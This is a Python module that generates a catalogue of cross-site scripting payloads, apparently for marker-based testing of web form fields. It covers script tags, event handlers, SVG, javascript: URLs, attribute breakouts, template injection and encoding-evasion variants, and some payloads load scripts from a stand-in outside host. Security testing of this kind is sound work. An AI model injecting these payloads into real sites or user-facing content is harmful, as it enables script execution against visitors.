"""Scripts that somebody could type into a field, by the way they try to get out of it.

MARK is in each: an element, an attribute or a script of a page that holds it is live, whether it ran or not. They fit
every free field of the request, which take 100 characters or more.
"""

from itertools import product

MARK, LONGEST = "zqx", 100
CALLS = ["alert(7)", "zqx=1", "alert`7`", "self['zq'+'x']=1", "top['al'+'ert'](7)", "setTimeout('zqx=1')"]
HANDLERS = [
    "img src=x onerror",
    "body onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "object data=x onerror",
    "iframe onload",
    "div onmouseover",
    "a href=# onclick",
    "p tabindex=0 onfocus",
    "link rel=stylesheet href=x onerror",
    "style onload",
]
SVG = [
    "<svg zqx onload={}>",
    "<svg><animate zqx onbegin={} attributeName=x dur=1s>",
    "<svg><set zqx onbegin={} attributeName=x>",
    "<svg><a zqx xlink:href=javascript:{}><text y=9>zqx",
    "<svg><script zqx>{}</script></svg>",
    "<math><mtext zqx href=javascript:{}>zqx",
    "<svg><foreignObject><img zqx src=x onerror={}>",
    "<svg><use zqx href=data:image/svg+xml,{}>",
]
TAGS = [
    "<script zqx>{}</script>",
    "<SCRIPT zqx>{}</SCRIPT>",
    "<script/zqx>{}</script>",
    "</script><script zqx>{}</script>",
    "<<script zqx>{}//<</script>",
    "<script zqx>{}//",
    "<scr<script>ipt zqx>{}</scr</script>ipt>",
    "<script zqx type=module>{}</script>",
]
SOURCES = [
    "//x.example/zqx.js",
    "data:,zqx=1",
    "https:x.example/zqx",
    "\\\\x.example/zqx",
    "blob:zqx",
    "?zqx",
    "/zqx.js",
]
URLS = [
    "javascript:{}//zqx",
    "JaVaScRiPt:{}//zqx",
    "java\tscript:{}//zqx",
    "<a zqx href=javascript:{}>zqx</a>",
    "<a zqx href=' javascript:{}'>zqx</a>",
    "<form zqx action=javascript:{}><button>zqx",
    "<iframe zqx src=javascript:{}>",
    "<meta zqx http-equiv=refresh content=0;url=javascript:{}>",
    "<base zqx href=javascript:{}//>",
    "[zqx](javascript:{})",
]
HOLDERS = ["textarea", "title", "style", "noscript", "xmp", "noembed", "template", "iframe", "option", "select"]
HOLDERS += ["button", "table", "bdi", "label", "main", "html", "plaintext", "svg", "math", "dd"]
QUOTES = ["'", '"', "`", "", "\\'", '\\"', "&quot;", "'>", '">', ">", "\"'>", "-->", "]]>"]
ATTRIBUTES = ["onfocus={} autofocus", "onmouseover={}", "onload={}", "style=x:expression({})"]
OTHERS = [
    # templates of Django, of scripts in the browser, and of what checks
    "{{{{ zqx|default:'zqxran' }}}}{}",
    "{{% debug %}}zqx{}",
    "{{% include 'zqx' %}}{}",
    "{{{{constructor.constructor('{}')()}}}}zqx",
    "${{{}}}zqx",
    "<%= {} %>zqx",
    "#{{{}}}zqx",
    # strings of scripts and of JSON-LD
    "';{};//zqx",
    '";{};//zqx',
    "\\';{};//zqx",
    '"}}</script><script zqx>{}</script>',
    '"}}]}};{};//zqx',
    "\\u003cscript zqx\\u003e{}\\u003c/script\\u003e",
    "\u2028{}//zqx",
    # styles
    "</style><script zqx>{}</script>",
    "x:expression({});zqx",
    "}}*{{background:url(javascript:{})}}zqx",
    "@import 'javascript:{}';zqx",
    # comments and markup that a parser mends into something else
    "<!--><img zqx src=x onerror={}>-->",
    "<!-- zqx --!><script zqx>{}</script>",
    "<![CDATA[><img zqx src=x onerror={}>]]>",
    "<noscript><p title='</noscript><img zqx src=x onerror={}>'>",
    "<math><mi><table><mglyph><style><img zqx src=x onerror={}>",
    "<svg></p><style><a id='</style><img zqx src=x onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style><img zqx src onerror={}>",
    "<p title='<b><img zqx src=x onerror={}>'>zqx",
    "<b zqx=1 =>'<img zqx src=x onerror={}>'",
    # entities and other alphabets
    "&lt;script zqx&gt;{}&lt;/script&gt;",
    "&#60;script zqx&#62;{}&#60;/script&#62;",
    "&#x3c;img zqx src=x onerror={}&#x3e;",
    "%3Cscript zqx%3E{}%3C/script%3E",
    "\uff1cscript zqx\uff1e{}\uff1c/script\uff1e",
    "\u02c2img zqx src=x onerror={}\u02c3",
    "+ADw-script zqx+AD4-{}+ADw-/script+AD4-",
    "<\u017fcript zqx>{}</\u017fcript>",
    "<img\u00a0zqx src=x onerror={}>",
    "<img\nzqx\nsrc=x\nonerror={}>",
    "<\u200bscript zqx>{}</script>",
]
FAMILIES = {
    "script elements": [each.format(call) for each, call in product(TAGS, CALLS[:5])],
    "scripts from elsewhere": [f"<script zqx src='{source}'></script>" for source in SOURCES],
    "event handlers": [f"<{each}={call} zqx>" for each, call in product(HANDLERS, CALLS[:4])],
    "drawings and formulas": [each.format(call) for each, call in product(SVG, CALLS[:3])],
    "out of an attribute": [f"x{q} {each.format('zqx=1')} zqx x={q}" for q, each in product(QUOTES, ATTRIBUTES)],
    "addresses": [each.format(call) for each, call in product(URLS, CALLS[:3])],
    "out of an element": [f"</{each}><img zqx src=x onerror={call}>" for each, call in product(HOLDERS, CALLS[:2])],
    "templates, styles, data, mended and written otherwise": [
        each.format(call) for each, call in product(OTHERS, CALLS[:2])
    ],
}


def everything():
    return list(dict.fromkeys(each for family in FAMILIES.values() for each in family))


def packed(longest=LONGEST):
    """The same in fewer texts of this length. Where one payload gets out it is live, whatever stands before and behind.

    Addresses act only at the start of a text, so each of them stays alone.
    """
    alone = FAMILIES["addresses"]
    texts = [""]
    for each in everything():
        if each in alone:
            continue
        if len(texts[-1]) + len(each) >= longest:
            texts.append("")
        texts[-1] += f" {each}" if texts[-1] else each
    return alone + texts


def few():
    """For every day: each gets out of many places at once, where one of a family alone gets out of one."""
    return [
        "'\"></textarea></title></style></script><img zqx src=x onerror=zqx=1>",
        "x' \" onfocus=zqx=1 autofocus zqx x=",
        "javascript:alert(7)//zqx",
        "{{ zqx }}{% debug %}<svg zqx onload=alert(7)>';zqx=1;//",
    ]
